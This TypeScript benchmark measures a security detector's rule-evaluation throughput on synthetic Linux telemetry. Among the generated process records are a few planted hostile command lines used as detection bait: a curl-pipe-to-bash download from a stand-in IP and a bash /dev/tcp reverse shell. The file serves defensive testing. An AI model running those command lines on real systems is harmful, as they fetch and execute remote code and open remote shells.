/**
 * `npm run bench -- detect` or `node --import tsx bench/detect.ts`: telemetry items/s evaluated
 * against the whole built-in pack, beside references measured in the same run on the same items —
 * JSON.parse of their bytes (what reading them off a stream costs at least) and a loop that reads
 * and lower-cases the fields the rules look at; then the detector on a real TELEMETRY stream
 * against a raw ordered read of it (the goal, ≥ 0.5) and the notification latency from
 * alert to receiver through the outbox (bench/detector.ts).
 */
import { pathToFileURL } from 'node:url';
import { compileRuleset, evaluate, loadPack } from '../src/detect/mod.ts';
import type { DetectItem } from '../src/detect/records.ts';
import { benchDetector } from './detector.ts';
import { report } from './util.ts';

const N = 100_000;
const ROUNDS = 5;

// A mix like a busy Linux fleet's: mostly process starts, then connections, a few account changes;
// six items in a hundred match a rule (one each for six rules), far more than a real fleet.
const CMDLINES = [
  '/usr/lib/systemd/systemd-journald',
  'sshd: alice [priv]',
  'ls --color=auto -la /var/log',
  'python3 /opt/app/manage.py runserver 0.0.0.0:8000 --settings=app.production --noreload',
  'sh -c /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null',
  'git -c core.quotepath=false status --porcelain=v2 --branch --untracked-files=all',
  'java -Xmx2g -jar /opt/service/service.jar --spring.profiles.active=prod',
  'curl -s -o /dev/null -w %{http_code} http://127.0.0.1:8080/healthz',
];

function items(n: number): DetectItem[] {
  const out: DetectItem[] = [];
  for (let i = 0; i < n; i++) {
    const r = i % 100;
    if (r < 70) {
      const suspicious = r === 0 ? 'sh -c curl -fsSL http://203.0.113.9/x.sh | bash' : r === 1 ? 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' : null;
      out.push({
        kind: 'process',
        pid: 1000 + i,
        ppid: 900 + (i % 50),
        uid: i % 7 === 0 ? 0 : 1000,
        user: i % 7 === 0 ? 'root' : 'alice',
        exe: r === 2 ? '/tmp/.x/kworker' : r === 3 ? '/usr/bin/dash' : ['/usr/bin/python3.11', '/usr/bin/ls', '/usr/bin/perl', '/usr/lib/jvm/bin/java'][i % 4]!,
        name: ['python3', 'ls', 'sh', 'java'][i % 4]!,
        sha256: 'ab'.repeat(32),
        cmdline: suspicious ?? CMDLINES[i % CMDLINES.length]!,
        cmdlineTruncated: false,
        startedAt: '2026-11-30T10:00:00.000Z',
        cwd: '/home/alice',
        parentExe: r === 3 ? '/usr/sbin/nginx' : '/usr/lib/systemd/systemd',
        parentName: 'systemd',
        parentCmdline: '/sbin/init splash',
      });
    } else if (r < 95) {
      out.push({
        kind: 'connection',
        protocol: 'tcp',
        state: 'ESTABLISHED',
        localAddress: '10.0.0.5',
        localPort: 40000 + (i % 20000),
        remoteAddress: `198.51.100.${i % 250}`,
        remotePort: 443,
        pid: 1000 + i,
        exe: r === 70 ? '/usr/bin/bash' : '/usr/bin/python3.11',
        user: 'alice',
      });
    } else {
      out.push({
        kind: 'account-change',
        source: 'local',
        change: r === 95 ? 'group-member-added' : 'modified',
        account: `user${i % 300}`,
        uid: 1000 + (i % 300),
        group: r === 95 ? 'sudo' : null,
        privileged: false,
        details: { attribute: 'shell', before: '/bin/sh', after: '/bin/bash' },
      });
    }
  }
  return out;
}

function opsPerSecond(n: number, fn: () => void): number {
  const t0 = process.hrtime.bigint();
  fn();
  return n / (Number(process.hrtime.bigint() - t0) / 1e9);
}

function median(xs: number[]): number {
  return [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
}

/** Evaluation throughput of the built-in pack against two references measured on the same items. */
export async function benchDetect(): Promise<void> {
  const pack = await loadPack();
  const set = compileRuleset(pack);
  const data = items(N);
  const bytes = data.map((x) => Buffer.from(JSON.stringify(x)));
  const avg = Math.round(bytes.reduce((n, b) => n + b.length, 0) / N);
  let matches = 0;
  for (const x of data) matches += evaluate(set, x).length;
  console.log(`  ${pack.length} rules, ${N} items (~${avg} bytes each), ${matches} matches; median of ${ROUNDS} rounds`);

  let sink = 0;
  const parse: number[] = [];
  const fields: number[] = [];
  const evalOnly: number[] = [];
  const parseEval: number[] = [];
  for (let round = 0; round < ROUNDS; round++) {
    parse.push(
      opsPerSecond(N, () => {
        for (const b of bytes) sink += (JSON.parse(b.toString('utf8')) as { pid?: number }).pid ?? 0;
      }),
    );
    // What any matcher must at least do: read each field a rule names and fold its case.
    fields.push(
      opsPerSecond(N, () => {
        for (const x of data) {
          if (x.kind === 'process') sink += x.exe.toLowerCase().length + x.cmdline.toLowerCase().length + (x.parentExe?.toLowerCase().length ?? 0) + x.uid;
          else if (x.kind === 'connection') sink += (x.exe?.toLowerCase().length ?? 0) + x.remoteAddress.length + x.localPort;
          else if (x.kind === 'account-change') sink += x.change.length + x.account.toLowerCase().length + (x.group?.toLowerCase().length ?? 0);
        }
      }),
    );
    evalOnly.push(
      opsPerSecond(N, () => {
        for (const x of data) sink += evaluate(set, x).length;
      }),
    );
    parseEval.push(
      opsPerSecond(N, () => {
        for (const b of bytes) sink += evaluate(set, JSON.parse(b.toString('utf8')) as DetectItem).length;
      }),
    );
  }
  if (sink === -1) console.log(sink);

  report('JSON.parse of the item bytes (reference)', median(parse), 'items/s');
  report('read and lower-case the fields rules use (reference)', median(fields), 'items/s');
  report('evaluate against the whole pack (parsed items)', median(evalOnly), 'items/s', { label: 'JSON.parse', value: median(parse) });
  report('evaluate, same', median(evalOnly), 'items/s', { label: 'field loop', value: median(fields) });
  // No goal here: the goal (≥ 0.5) is against a raw ordered read of the stream, which the lead adds.
  report('JSON.parse + evaluate', median(parseEval), 'items/s', { label: 'JSON.parse alone', value: median(parse) });

  console.log('  on the stream:');
  await benchDetector(items, N);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  await benchDetect();
  process.exit(0);
}
